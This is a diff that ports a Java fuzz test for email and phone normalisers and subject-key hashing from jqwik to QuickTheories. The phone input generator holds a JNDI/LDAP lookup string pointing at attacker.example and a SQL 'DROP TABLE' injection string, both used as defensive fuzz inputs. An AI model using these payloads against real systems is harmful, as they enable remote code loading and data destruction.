@@ -1,18 +1,19 @@
 package io.leadpipeline.reliability.corpus;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.quicktheories.QuickTheory.qt;
+import static org.quicktheories.generators.SourceDSL.booleans;
+import static org.quicktheories.generators.SourceDSL.integers;
 
 import io.leadpipeline.identity.Emails;
 import io.leadpipeline.identity.InvalidIdentifierException;
 import io.leadpipeline.identity.PhoneNumbers;
 import io.leadpipeline.identity.SubjectKeys;
+import io.leadpipeline.reliability.generators.Text;
 import java.util.Locale;
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Assume;
-import net.jqwik.api.ForAll;
-import net.jqwik.api.Property;
-import net.jqwik.api.Provide;
+import org.junit.jupiter.api.Test;
+import org.quicktheories.core.Gen;
+import org.quicktheories.generators.Generate;
 
 /**
  * Fuzzing the normaliser every key is computed from. Whatever a person or a bug types, it either
@@ -23,100 +24,103 @@ import net.jqwik.api.Provide;
 class NormaliserFuzzTest {
   private static final SubjectKeys KEYS = new SubjectKeys("fuzzing-secret-0123456789");
 
-  @Property(tries = 3000)
-  void emailNormalisesOrRefusesWithoutEchoing(@ForAll("emailish") String raw) {
-    try {
-      String email = Emails.normalise(raw);
-      assertThat(Emails.normalise(email)).as("a normalised email is a fixed point").isEqualTo(email);
-      assertThat(email).isEqualTo(email.strip().toLowerCase(Locale.ROOT)).contains("@");
-      assertThat(email.chars().noneMatch(c -> Character.isISOControl(c) || Character.isWhitespace(c))).isTrue();
-    } catch (InvalidIdentifierException e) {
-      assertNoEcho(e, raw);
-    }
+  @Test
+  void emailNormalisesOrRefusesWithoutEchoing() {
+    qt().withExamples(3000).forAll(emailish()).checkAssert(raw -> {
+      try {
+        String email = Emails.normalise(raw);
+        assertThat(Emails.normalise(email)).as("a normalised email is a fixed point").isEqualTo(email);
+        assertThat(email).isEqualTo(email.strip().toLowerCase(Locale.ROOT)).contains("@");
+        assertThat(email.chars().noneMatch(c -> Character.isISOControl(c) || Character.isWhitespace(c))).isTrue();
+      } catch (InvalidIdentifierException e) {
+        assertNoEcho(e, raw);
+      }
+    });
   }
 
-  @Property(tries = 3000)
-  void phoneNormalisesToE164OrRefusesWithoutEchoing(@ForAll("phoneish") String raw) {
-    try {
-      String e164 = PhoneNumbers.toE164(raw);
-      assertThat(e164).matches("\\+[1-9][0-9]{6,14}");
-      assertThat(PhoneNumbers.toE164(e164)).as("E.164 is a fixed point").isEqualTo(e164);
-    } catch (InvalidIdentifierException e) {
-      assertNoEcho(e, raw);
-    }
+  @Test
+  void phoneNormalisesToE164OrRefusesWithoutEchoing() {
+    qt().withExamples(3000).forAll(phoneish()).checkAssert(raw -> {
+      try {
+        String e164 = PhoneNumbers.toE164(raw);
+        assertThat(e164).matches("\\+[1-9][0-9]{6,14}");
+        assertThat(PhoneNumbers.toE164(e164)).as("E.164 is a fixed point").isEqualTo(e164);
+      } catch (InvalidIdentifierException e) {
+        assertNoEcho(e, raw);
+      }
+    });
   }
 
-  @Property(tries = 1000)
-  void everySpellingOfOneAddressKeysTheSameSubject(
-      @ForAll("localParts") String local, @ForAll("whitespace") String before, @ForAll("whitespace") String after,
-      @ForAll boolean upper) {
-    String email = local + "@example.co.uk";
-    String spelled = before + (upper ? email.toUpperCase(Locale.ROOT) : email) + after;
-    assertThat(KEYS.ofEmail(spelled)).isEqualTo(KEYS.ofEmail(email));
+  @Test
+  void everySpellingOfOneAddressKeysTheSameSubject() {
+    qt().withExamples(1000).forAll(localParts(), whitespace(), whitespace(), booleans().all())
+        .checkAssert((local, before, after, upper) -> {
+          String email = local + "@example.co.uk";
+          String spelled = before + (upper ? email.toUpperCase(Locale.ROOT) : email) + after;
+          assertThat(KEYS.ofEmail(spelled)).isEqualTo(KEYS.ofEmail(email));
+        });
   }
 
-  @Property(tries = 1000)
-  void everySpellingOfOneNumberKeysTheSamePhone(@ForAll("ukSubscriber") int n, @ForAll("phoneStyles") int style) {
-    String digits = String.format("%03d", n);
-    String national = "020 7946 0" + digits;
-    String spelled = switch (style) {
-      case 0 -> "+44 20 7946 0" + digits;
-      case 1 -> "02079460" + digits;
-      case 2 -> "(020) 7946-0" + digits;
-      case 3 -> "0044 20 7946 0" + digits;
-      default -> " +44 (0)20 7946 0" + digits + " ";
-    };
-    assertThat(KEYS.ofPhone(spelled)).isEqualTo(KEYS.ofPhone(national));
+  @Test
+  void everySpellingOfOneNumberKeysTheSamePhone() {
+    qt().withExamples(1000).forAll(ukSubscriber(), phoneStyles()).checkAssert((n, style) -> {
+      String digits = String.format("%03d", n);
+      String national = "020 7946 0" + digits;
+      String spelled = switch (style) {
+        case 0 -> "+44 20 7946 0" + digits;
+        case 1 -> "02079460" + digits;
+        case 2 -> "(020) 7946-0" + digits;
+        case 3 -> "0044 20 7946 0" + digits;
+        default -> " +44 (0)20 7946 0" + digits + " ";
+      };
+      assertThat(KEYS.ofPhone(spelled)).isEqualTo(KEYS.ofPhone(national));
+    });
   }
 
-  @Property(tries = 500)
-  void subjectKeysNeverContainTheIdentifier(@ForAll("localParts") String local) {
-    String email = local + "@example.com";
-    String key = KEYS.ofEmail(email);
-    assertThat(key).matches("[0-9a-f]{64}").doesNotContain(local.toLowerCase(Locale.ROOT));
+  @Test
+  void subjectKeysNeverContainTheIdentifier() {
+    qt().withExamples(500).forAll(localParts()).checkAssert(local -> {
+      String email = local + "@example.com";
+      String key = KEYS.ofEmail(email);
+      assertThat(key).matches("[0-9a-f]{64}").doesNotContain(local.toLowerCase(Locale.ROOT));
+    });
   }
 
   private static void assertNoEcho(InvalidIdentifierException e, String raw) {
     String stripped = raw.strip();
-    Assume.that(stripped.length() >= 4);
-    assertThat(e.getMessage()).as("refusal message").doesNotContain(stripped);
+    // Three characters or fewer occur in any message by chance; the property is about real input.
+    if (stripped.length() >= 4) {
+      assertThat(e.getMessage()).as("refusal message").doesNotContain(stripped);
+    }
   }
 
-  @Provide
-  Arbitrary<String> emailish() {
-    Arbitrary<String> parts = Arbitraries.strings().withChars("aZ09.+_-@ \t\r\n<>\"'\u0000\u00e9\u202e;:,()[]\\").ofMaxLength(40);
-    Arbitrary<String> plausible = Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(12)
-        .map(s -> s + "@" + s.toLowerCase(Locale.ROOT) + ".example");
-    return Arbitraries.oneOf(parts, plausible, Arbitraries.strings().ofMaxLength(300), Arbitraries.just("a@b"));
+  static Gen<String> emailish() {
+    Gen<String> parts = Text.from("aZ09.+_-@ \t\r\n<>\"'\u0000\u00e9\u202e;:,()[]\\", 0, 40);
+    Gen<String> plausible = Text.alpha(1, 12).map(s -> s + "@" + s.toLowerCase(Locale.ROOT) + ".example");
+    return Generate.oneOf(parts, plausible, Text.any(0, 300), Generate.constant("a@b"));
   }
 
-  @Provide
-  Arbitrary<String> phoneish() {
-    Arbitrary<String> digits = Arbitraries.strings().withChars("0123456789 +-()x#*").ofMaxLength(30);
-    Arbitrary<String> uk = Arbitraries.integers().between(0, 999).map(n -> "0161 496 0" + String.format("%03d", n));
-    return Arbitraries.oneOf(digits, uk, Arbitraries.strings().ofMaxLength(100),
-        Arbitraries.just("${jndi:ldap://attacker.example/a}"), Arbitraries.just("'; DROP TABLE tps;--"));
+  static Gen<String> phoneish() {
+    Gen<String> digits = Text.from("0123456789 +-()x#*", 0, 30);
+    Gen<String> uk = integers().between(0, 999).map(n -> "0161 496 0" + String.format("%03d", n));
+    return Generate.oneOf(digits, uk, Text.any(0, 100),
+        Generate.constant("${jndi:ldap://attacker.example/a}"), Generate.constant("'; DROP TABLE tps;--"));
   }
 
-  @Provide
-  Arbitrary<String> localParts() {
-    return Arbitraries.strings().withCharRange('a', 'z').withChars("0123456789.-_").ofMinLength(4).ofMaxLength(30)
-        .filter(s -> Character.isLetter(s.charAt(0)));
+  static Gen<String> localParts() {
+    return Text.from("abcdefghijklmnopqrstuvwxyz0123456789.-_", 4, 30).assuming(s -> Character.isLetter(s.charAt(0)));
   }
 
-  @Provide
-  Arbitrary<String> whitespace() {
-    return Arbitraries.strings().withChars(" \t\n").ofMaxLength(3);
+  static Gen<String> whitespace() {
+    return Text.from(" \t\n", 0, 3);
   }
 
-  @Provide
-  Arbitrary<Integer> ukSubscriber() {
-    return Arbitraries.integers().between(0, 999);
+  static Gen<Integer> ukSubscriber() {
+    return integers().between(0, 999);
   }
 
-  @Provide
-  Arbitrary<Integer> phoneStyles() {
-    return Arbitraries.integers().between(0, 4);
+  static Gen<Integer> phoneStyles() {
+    return integers().between(0, 4);
   }
 
 }
